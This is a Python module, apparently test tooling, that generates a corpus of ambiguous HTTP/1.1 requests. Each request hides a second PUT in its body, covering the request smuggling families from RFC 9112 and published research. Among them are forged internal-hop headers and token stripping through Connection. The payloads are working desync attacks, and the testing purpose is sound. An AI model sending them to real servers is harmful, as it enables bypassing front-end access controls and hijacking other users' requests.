"""Requests that two servers may read in two ways, each with another request hidden in its body.

Sources: RFC 9112, 5.1, 5.2, 6.1-6.3, 7.1, 11.2; the families are those of Linhart et al., "HTTP
Request Smuggling" (2005), and of Kettle, "HTTP Desync Attacks" (2019).
"""
FIVE = b'5\r\nhello\r\n0\r\n\r\n'       # a body in chunks
SEEN, HIDDEN = 'seen', 'hidden'         # in paths: of the request itself, of the one behind it


def corpus(token):
    """Return {name of a case: function(where)}; the function returns bytes to send, two requests.

    The first is the case's PUT to `where` + SEEN, the second is a plain PUT to `where` + HIDDEN.
    Both have the X-Auth-Token `token`, or none if it is empty.
    """
    auth = f'X-Auth-Token: {token}\r\n' if token else ''

    def behind(where):
        lines = f'PUT {where}{HIDDEN} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n{auth}\r\n'
        return lines.encode()

    def put(*lines, body=b'hello', line='PUT {} HTTP/1.1\r\n', end='\r\n'):
        def made(where):
            head = line.format(f'{where}{SEEN}') + ''.join((*lines, 'Host: x\r\n', auth, end))
            return head.encode('latin-1') + body + behind(where)
        return made

    length, chunked = 'Content-Length: 5\r\n', 'Transfer-Encoding: chunked\r\n'
    cases = {
        'plain length': put(length),
        'plain chunks': put(chunked, body=FIVE),
        'no length': put(body=b''),
        'length and chunks': put(length, chunked, body=FIVE),
        'chunks and length': put(chunked, length, body=FIVE),
        'chunks and a length of all': put(chunked, 'Content-Length: 4\r\n', body=b'0\r\n\r\n'),
        'same length twice': put(length, length),
        'two lengths': put(length, 'Content-Length: 0\r\n'),
        'two lengths, the other first': put('Content-Length: 0\r\n', length),
        'a list of lengths': put('Content-Length: 5, 5\r\n'),
        'a list of two lengths': put('Content-Length: 5, 0\r\n'),
        'length with a sign': put('Content-Length: +5\r\n'),
        'negative length': put('Content-Length: -5\r\n'),
        'length in hex': put('Content-Length: 0x5\r\n'),
        'length with _': put('Content-Length: 0_5\r\n'),
        'length in other digits': put('Content-Length: \xb2\r\n'),
        'no number': put('Content-Length: five\r\n'),
        'empty length': put('Content-Length: \r\n', body=b''),
        'length of 20 digits': put('Content-Length: 99999999999999999999\r\n'),
        'zeros before it': put('Content-Length: 0005\r\n'),
        'Content_Length': put('Content_Length: 0\r\n', length),
        'Transfer_Encoding': put('Transfer_Encoding: chunked\r\n', length),
        'Chunked': put('Transfer-Encoding: Chunked\r\n', body=FIVE),
        'xchunked': put('Transfer-Encoding: xchunked\r\n', body=FIVE),
        'chunked twice': put('Transfer-Encoding: chunked, chunked\r\n', body=FIVE),
        'two codings': put(chunked, chunked, body=FIVE),
        'chunked, identity': put('Transfer-Encoding: chunked, identity\r\n', body=FIVE),
        'identity': put('Transfer-Encoding: identity\r\n', length),
        'gzip, chunked': put('Transfer-Encoding: gzip, chunked\r\n', body=FIVE),
        'tab before chunked': put('Transfer-Encoding:\tchunked\r\n', body=FIVE),
        'vertical tab before chunked': put('Transfer-Encoding: \x0bchunked\r\n', body=FIVE),
        'blank before the colon': put('Transfer-Encoding : chunked\r\n', body=FIVE),
        'tab before the colon': put('Transfer-Encoding\t: chunked\r\n', body=FIVE),
        'blank before the colon of length': put('Content-Length : 5\r\n'),
        'quoted': put('Transfer-Encoding: "chunked"\r\n', body=FIVE),
        'CR in the name': put('Transfer-\rEncoding: chunked\r\n', length),
        'no-break space': put('Transfer-Encoding: chunked\xa0\r\n', length),
        'folded length': put('Content-Length:\r\n 5\r\n'),
        'folded coding': put('Transfer-Encoding:\r\n chunked\r\n', body=FIVE),
        'folded': put('X-Object-Meta-A: 1\r\n Content-Length: 0\r\n', length),
        'folded at once': put(' Content-Length: 0\r\n', length),
        'bare LF': put('X-A: 1\n', 'Content-Length: 5\n'),
        'bare LF and another length': put('X-A: 1\nContent-Length: 0\r\n', length),
        'bare LF at the end': put(length, end='\n'),
        'bare CR': put('X-A: 1\rContent-Length: 0\r\n', length),
        'NUL in a value': put('X-Object-Meta-A: 1\x002\r\n', length),
        'NUL in a name': put('Content\x00-Length: 0\r\n', length),
        'no colon': put('Content-Length 0\r\n', length),
        'empty name': put(': 0\r\n', length),
        'a name with bytes above': put('X-Object-Meta-\xe9: 1\r\n', length),
        'length after such a name': put('X-Object-Meta-\xe9: 1\r\n', 'Content-Length: 5\r\n'),
        'chunks after such a name': put('X-Object-Meta-\xe9: 1\r\n', chunked, body=FIVE),
        'length named in Connection': put('Connection: Content-Length\r\n', length),
        'token named in Connection': put('Connection: X-Auth-Token, X-Lb-Hop, Host\r\n', length),
        'our marker': put('X-Lb-Hop: forged|by|me\r\n', 'X_Lb_Hop: forged\r\n', length),
        'Upgrade': put('Connection: Upgrade\r\nUpgrade: h2c\r\n', length),
        'trailers': put(chunked, body=b'5\r\nhello\r\n0\r\nContent-Length: 0\r\nX-A: b\r\n\r\n'),
        'extensions': put(chunked, body=b'5;a="b;c"\r\nhello\r\n0;x\r\n\r\n'),
        'extension with LF': put(chunked, body=b'5;a\nhello\r\n0\r\n\r\n'),
        'a chunk of too many': put(chunked, body=b'ffffffffffffffffff\r\nhello\r\n'),
        'a chunk in 0x': put(chunked, body=b'0x5\r\nhello\r\n0\r\n\r\n'),
        'a chunk with _': put(chunked, body=b'0_5\r\nhello\r\n0\r\n\r\n'),
        'a negative chunk': put(chunked, body=b'-5\r\nhello\r\n0\r\n\r\n'),
        'a chunk with a sign': put(chunked, body=b'+5\r\nhello\r\n0\r\n\r\n'),
        'a chunk without a size': put(chunked, body=b'\r\nhello\r\n0\r\n\r\n'),
        'a longer chunk': put(chunked, body=b'5\r\nhello!\r\n0\r\n\r\n'),
        'chunks with LF': put(chunked, body=b'5\nhello\n0\n\n'),
        'chunks without an end': put(chunked, body=b'5\r\nhello\r\n'),
        'absolute': put(length, line='PUT http://elsewhere{} HTTP/1.1\r\n'),
        'absolute, https': put(length, line='PUT https://elsewhere{}?a=b HTTP/1.1\r\n'),
        'two slashes': put(length, line='PUT /{} HTTP/1.1\r\n'),
        'HTTP/1.0': put(length, line='PUT {} HTTP/1.0\r\n'),
        'HTTP/1.0 chunks': put(chunked, line='PUT {} HTTP/1.0\r\n', body=FIVE),
        'HTTP/1.2': put(length, line='PUT {} HTTP/1.2\r\n'),
        'HTTP/2.0': put(length, line='PUT {} HTTP/2.0\r\n'),
        'no version': put(length, line='PUT {}\r\n'),
        'a blank more': put(length, line='PUT  {} HTTP/1.1\r\n'),
        'a blank in the path': put(length, line='PUT {} x HTTP/1.1\r\n'),
        'a tab in the line': put(length, line='PUT\t{} HTTP/1.1\r\n'),
        'CR in the path': put(length, line='PUT {}\rX-A:b HTTP/1.1\r\n'),
        'CR LF in the path, quoted': put(length, line='PUT {}%0d%0aX-A:%20b HTTP/1.1\r\n'),
        'bytes above in the path': put(length, line='PUT {}\xe9 HTTP/1.1\r\n'),
        'a fragment': put(length, line='PUT {}#x HTTP/1.1\r\n'),
        'an odd method': put(length, line='P(T {} HTTP/1.1\r\n'),
        'two expectations': put('Expect: 100-continue\r\n', 'Expect: 100-continue\r\n', length),
        'another expectation': put('Expect: x\r\n', length),
        'empty lines first': lambda where: b'\r\n\r\n' + put(length)(where),
    }
    return cases


def hidden_in(method, token):
    """Return a function(where) that returns a request of `method` whose body is a PUT request."""
    auth = f'X-Auth-Token: {token}\r\n' if token else ''

    def made(where):
        inner = f'PUT {where}{HIDDEN} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n{auth}\r\n'
        return (f'{method} {where}{SEEN} HTTP/1.1\r\nHost: x\r\n{auth}'
                f'Content-Length: {len(inner)}\r\n\r\n{inner}').encode()
    return made
